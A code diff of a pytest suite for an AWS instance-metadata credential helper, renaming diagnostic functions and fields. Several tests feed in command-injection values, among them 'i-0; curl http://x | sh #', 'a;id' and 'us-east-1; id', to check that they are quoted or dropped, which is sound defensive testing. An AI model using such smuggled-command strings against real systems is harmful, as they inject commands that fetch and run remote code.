@@ -10,7 +10,7 @@ from typing import TYPE_CHECKING
 
 import pytest
 
-from credhelper.aws.metadata import Cause, region, whose, why_no_keys, why_not
+from credhelper.aws.metadata import Diagnosis, diagnose, diagnose_missing_keys, instance_region, instance_role
 from tests.conftest import NOWHERE
 from tests.contract.answering import answering, answering_by_path
 
@@ -25,10 +25,10 @@ def endpoint(cloud: Loopback) -> str:
     return cloud.environment()["AWS_EC2_METADATA_SERVICE_ENDPOINT"]
 
 
-def cause(endpoint: str) -> Cause:
+def cause(endpoint: str) -> Diagnosis:
     """Ask as the exchange does, when botocore then finds no keys."""
-    seen = whose(endpoint)
-    return seen.cause or why_no_keys(endpoint, seen.name)
+    seen = instance_role(endpoint)
+    return seen.diagnosis or diagnose_missing_keys(endpoint, seen.name)
 
 
 @pytest.mark.parametrize(
@@ -48,43 +48,43 @@ def test_a_cause_is_found_and_its_fix_is_named(cloud: Loopback, told: str, id_: 
     cloud.tell(metadata=told)
     found = cause(endpoint(cloud))
     assert found.id == id_
-    assert clause in found.clause
+    assert clause in found.reason
     assert fix in found.fix
 
 
 def test_a_role_is_told_by_its_instance_profile_and_its_name(cloud: Loopback) -> None:
-    arn, id_, name = whose(endpoint(cloud)).role.split(" ")
+    arn, id_, name = instance_role(endpoint(cloud)).identity.split(" ")
     assert arn.startswith("arn:aws:iam::123456789012:instance-profile/")
     assert id_.startswith("AIPA")
     assert name == "app-role"
 
 
 def test_roles_of_one_name_in_two_accounts_are_told_apart(cloud: Loopback) -> None:
-    mine = whose(endpoint(cloud)).role
+    mine = instance_role(endpoint(cloud)).identity
     cloud.tell(account="210987654321")
-    assert whose(endpoint(cloud)).role != mine
+    assert instance_role(endpoint(cloud)).identity != mine
 
 
 def test_no_role_is_told_as_none(cloud: Loopback) -> None:
     cloud.tell(metadata="no-role")
-    assert whose(endpoint(cloud)).role == "none"
+    assert instance_role(endpoint(cloud)).identity == "none"
 
 
 def test_where_nobody_listens_there_is_no_metadata() -> None:
-    assert "no instance metadata answers here" in cause(NOWHERE).clause
+    assert "no instance metadata answers here" in cause(NOWHERE).reason
 
 
 def test_a_proxy_is_not_used_for_metadata(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("http_proxy", NOWHERE)
     cloud.tell(metadata="no-role")
-    assert "no role" in cause(endpoint(cloud)).clause
+    assert "no role" in cause(endpoint(cloud)).reason
 
 
 def test_a_proxy_that_botocore_uses_for_metadata_is_named(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("http_proxy", NOWHERE)
     found = cause(endpoint(cloud))
     assert found.id == "metadata-proxied"
-    assert "http_proxy sends" in found.clause
+    assert "http_proxy sends" in found.reason
 
 
 def test_a_proxy_that_is_not_for_metadata_is_not_blamed(cloud: Loopback, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -97,13 +97,13 @@ def test_what_speaks_no_http_is_no_metadata() -> None:
     with socket.create_server(("127.0.0.1", 0)) as server:
         server.settimeout(0)  # the connection is made by the kernel, and nobody ever speaks
         port = server.getsockname()[1]
-        assert "no instance metadata" in cause(f"http://127.0.0.1:{port}").clause
+        assert "no instance metadata" in cause(f"http://127.0.0.1:{port}").reason
 
 
 @pytest.mark.parametrize("page", [b"<html>\r\nplease log in\r\n</html>", b"\xff\xfe", "r\u00f6le".encode()])
 def test_what_gives_a_token_that_is_none_is_no_metadata(page: bytes) -> None:
     with answering(page) as url:
-        assert "a token that could not be one" in cause(url).clause
+        assert "a token that could not be one" in cause(url).reason
 
 
 @pytest.mark.parametrize(
@@ -119,7 +119,7 @@ def test_what_gives_a_token_that_is_none_is_no_metadata(page: bytes) -> None:
     ],
 )
 def test_an_address_that_is_none_is_asked_nothing(url: str) -> None:
-    assert "the address of instance metadata is none" in cause(url).clause
+    assert "the address of instance metadata is none" in cause(url).reason
 
 
 def test_a_path_that_cannot_be_written_in_a_request_leads_nowhere() -> None:
@@ -131,14 +131,14 @@ def test_no_tls_context_is_created_for_an_http_endpoint(cloud: Loopback, monkeyp
         raise AssertionError("a TLS context was created")
 
     monkeypatch.setattr(ssl, "SSLContext", refuse)
-    assert whose(endpoint(cloud)).name == "app-role"
+    assert instance_role(endpoint(cloud)).name == "app-role"
 
 
 def test_an_https_endpoint_with_a_trusted_certificate_is_asked(
     impostor: Loopback, authority: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("SSL_CERT_FILE", str(authority / "ca.crt"))
-    assert whose(os.environ["AWS_ENDPOINT_URL"]).name == "app-role"
+    assert instance_role(os.environ["AWS_ENDPOINT_URL"]).name == "app-role"
     assert impostor.calls()["metadata"] == 3
 
 
@@ -149,26 +149,26 @@ def test_an_https_endpoint_with_an_untrusted_certificate_receives_nothing(impost
 
 @pytest.mark.parametrize("url", ["file:///etc/hostname?", "ftp://127.0.0.1:9", "data:,eu-west-1?", "nowhere"])
 def test_an_address_of_another_kind_names_no_region(url: str) -> None:
-    assert region(url) == ""
+    assert instance_region(url) == ""
 
 
 def test_metadata_s_token_follows_no_redirection() -> None:
     with answering(b"evil") as other, answering(b"token", 302, Location=other) as url:
-        assert "answers 302" in cause(url).clause
+        assert "answers 302" in cause(url).reason
 
 
 def test_a_role_s_name_is_quoted_for_a_shell() -> None:
     with answering({"Code": "AssumeRoleUnauthorizedAccess"}) as url:
-        assert "--role-name 'a;id' " in why_no_keys(url, "a;id").fix
+        assert "--role-name 'a;id' " in diagnose_missing_keys(url, "a;id").fix
 
 
 def test_what_gives_no_token_and_knows_of_no_role_is_another_cloud_s() -> None:
     with answering(b"", 404) as url:
-        seen = whose(url)
-    assert seen.role == ""
-    assert seen.cause is not None
-    assert "is not EC2's" in seen.cause.clause
-    assert "associate-iam-instance-profile" not in seen.cause.fix
+        seen = instance_role(url)
+    assert seen.identity == ""
+    assert seen.diagnosis is not None
+    assert "is not EC2's" in seen.diagnosis.reason
+    assert "associate-iam-instance-profile" not in seen.diagnosis.fix
 
 
 DOCUMENT = {
@@ -213,17 +213,17 @@ def imds(
 @pytest.mark.parametrize("role", NOT_A_ROLE)
 def test_what_is_not_the_name_of_a_role_is_not_repeated(role: object) -> None:
     with imds(role) as url:
-        seen = whose(url)
-        found = why_not(url)
+        seen = instance_role(url)
+        found = diagnose(url)
     assert found.id == "metadata-failed"
-    assert "not the name of a role" in found.clause
+    assert "not the name of a role" in found.reason
     assert "hidden" not in repr((seen, found))
 
 
 @pytest.mark.parametrize("role", ["app-role", "a", "x" * 64, "a+b=c,d.e@f-g_h", "app-role\n"])
 def test_the_name_of_a_role_is_taken(role: str) -> None:
     with imds(role.encode()) as url:
-        assert whose(url).name == role.strip()
+        assert instance_role(url).name == role.strip()
 
 
 @pytest.mark.parametrize(
@@ -240,7 +240,7 @@ def test_the_name_of_a_role_is_taken(role: str) -> None:
 )
 def test_an_instance_profile_that_is_none_is_not_kept(info: object) -> None:
     with imds(b"app-role", info) as url:
-        assert whose(url).role == ""
+        assert instance_role(url).identity == ""
 
 
 @pytest.mark.parametrize("id_", [b"hidden", b"i-0; curl http://x | sh #", b"i-0\n1", b"i-" + b"0" * 1000, b"I-0"])
@@ -252,12 +252,12 @@ def test_an_instance_s_id_that_is_none_is_not_in_the_command(id_: bytes) -> None
 @pytest.mark.parametrize("name", [b"hidden secret", b"us-east-1; id", b"US", b"x" * 100, json.dumps(DOCUMENT).encode()])
 def test_a_region_that_is_none_is_not_repeated(name: bytes) -> None:
     with imds(b"", instance=name) as url:
-        assert region(url) == ""
+        assert instance_region(url) == ""
 
 
 @pytest.mark.parametrize("code", ["hidden code", "hidden" * 50, {"hidden": 1}, "hidden\x1b[2J", "hidden\n", 1])
 def test_a_code_that_is_none_is_not_repeated(code: object) -> None:
     with answering({"Code": code}) as url:
-        found = why_no_keys(url, "app-role")
+        found = diagnose_missing_keys(url, "app-role")
     assert "hidden" not in repr(found)
-    assert "an unknown code" in found.clause
+    assert "an unknown code" in found.reason
